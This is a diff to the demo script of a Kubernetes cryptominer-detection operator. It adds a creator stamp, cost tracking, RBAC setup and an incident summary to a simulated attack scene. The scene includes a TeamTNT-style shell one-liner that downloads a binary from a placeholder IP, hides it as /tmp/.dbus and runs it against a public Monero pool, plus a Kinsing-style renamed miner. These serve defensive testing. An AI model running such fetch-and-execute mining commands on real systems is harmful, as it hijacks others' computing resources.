@@ -94,6 +94,7 @@ def helm_install() -> None:
     run(str(BIN / "helm"), "upgrade", "--install", "minerguard", str(ROOT / "helm" / "minerguard"),
         "--kubeconfig", str(KUBECONFIG), "--namespace", "minerguard-system", "--take-ownership", "--wait",
         "--timeout", "120s", "--set", "admissionPolicy.exemptUsers={minerguard-admin}",
+        "--set", "creatorStamp.enabled=true",
         "--set", f"prometheus.url=http://127.0.0.1:{ports()['prometheus']}")
     kubectl("get", "deployment,serviceaccount,validatingadmissionpolicy", "-n", "minerguard-system",
             "-l", "app.kubernetes.io/instance=minerguard", quiet=False)
@@ -117,6 +118,7 @@ def start_operator() -> subprocess.Popen[bytes]:
         "MINERGUARD_METRIC_CONTAINER_PATH": "/metrics/resource",
         "MINERGUARD_RATE_WINDOW": "10s",
         "MINERGUARD_RESYNC_INTERVAL": "10",
+        "MINERGUARD_COST_WRITE_INTERVAL": "5",
         "MINERGUARD_INSTANCE": "demo-operator",
         "PYTHONUNBUFFERED": "1",
     }
@@ -183,11 +185,21 @@ def scene() -> None:
         deployment("shop", "trainer", 1, {"image": "pytorch/pytorch:2.4", "command": ["python", "train.py",
                                                                                    "--workers", "16"]}),
     ]
-    # TeamTNT-style: a shell one-liner fetches a miner, renames it and points it at a public pool.
-    docs.append(deployment("ci-runners", "build-cache", 2, {
+    # TeamTNT-style: a shell one-liner fetches a miner, renames it and points it at a public pool. It is created
+    # by tenant-admin (impersonated; an admin RoleBinding), whose name the creator stamp writes on it; its
+    # ServiceAccount may read Secrets; its simulated CPU burns one core per pod (the bill).
+    kubectl("create", "rolebinding", "tenant-admin", "--clusterrole=admin", "--user=tenant-admin", "-n", "ci-runners",
+            check=False)
+    kubectl("create", "serviceaccount", "builder", "-n", "ci-runners", check=False)
+    kubectl("create", "role", "read-secrets", "--verb=get", "--resource=secrets", "-n", "ci-runners", check=False)
+    kubectl("create", "rolebinding", "builder-secrets", "--role=read-secrets", "--serviceaccount=ci-runners:builder",
+            "-n", "ci-runners", check=False)
+    build_cache = deployment("ci-runners", "build-cache", 2, {
         "image": "alpine:3.20", "command": ["sh", "-c"],
         "args": [f"curl -s http://203.0.113.7/x -o /tmp/.dbus; chmod +x /tmp/.dbus; /tmp/.dbus -o "
-                 f"pool.supportxmr.com:443 -u {WALLET} -k --tls --donate-level 1"]}))
+                 f"pool.supportxmr.com:443 -u {WALLET} -k --tls --donate-level 1"]}, serviceAccountName="builder")
+    build_cache["spec"]["template"]["metadata"]["annotations"] = {"kwok.x-k8s.io/usage-cpu": "1"}
+    kubectl("--as", "tenant-admin", "apply", "-f", "-", stdin=json.dumps(build_cache))
     # Kinsing-style: the renamed xmrig kdevtmpfsi, stratum in the environment.
     docs.append({"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "log-shipper", "namespace": "ci-runners"},
                  "spec": {"containers": [{"name": "shipper", "image": "ubuntu:24.04", "command": ["/tmp/kdevtmpfsi"],
@@ -257,11 +269,24 @@ def summary(proc: subprocess.Popen[bytes]) -> None:
     step("Nothing touched the ordinary workloads")
     out = kubectl("get", "pods", "-n", "shop", "-L", "minerguard.io/quarantined")
     print(out.rstrip())
+    step("The canary: how build-cache got in, what its access reaches, and the bill (minerguard incident describe)")
+    note("Foothold (creator stamp, owner chain, field managers, SubjectAccessReviews), related workloads, cost.")
+    deadline = time.monotonic() + 40
+    while time.monotonic() < deadline:
+        body = json.loads(kubectl("get", "minerincident", "-n", "ci-runners", "deployment-build-cache", "-o", "json",
+                                  check=False) or "{}")
+        if ((body.get("status") or {}).get("cost") or {}).get("cpuCoreSeconds"):
+            break
+        time.sleep(2)
+    run(sys.executable, "-m", "minerguard", "incident", "describe", "ci-runners/deployment-build-cache",
+        "--kubeconfig", str(KUBECONFIG), quiet=False, check=False)
     step("What next")
     kc = f"--kubeconfig {KUBECONFIG}"
     print(f"""    kubectl {kc} describe pod -n ci-runners log-shipper        # the Events on a contained pod
     kubectl {kc} get events -A --field-selector reason=MinerDetected
     kubectl {kc} get minerincident -n ci-runners deployment-build-cache -o yaml
+    kubectl {kc} get minerincidents -A -o wide        # Est. cost, Related and Foothold columns
+    .venv/bin/minerguard incident describe ci-runners/deployment-build-cache --kubeconfig {KUBECONFIG}
     # release a workload (the record stays; the pod gets its network back):
     kubectl {kc} patch minerincident -n ci-runners pod-log-shipper --type merge -p '{{"spec":{{"release":true}}}}'
     # the operator keeps running in the background (pid {proc.pid}, log .cluster/logs/demo-operator.log)
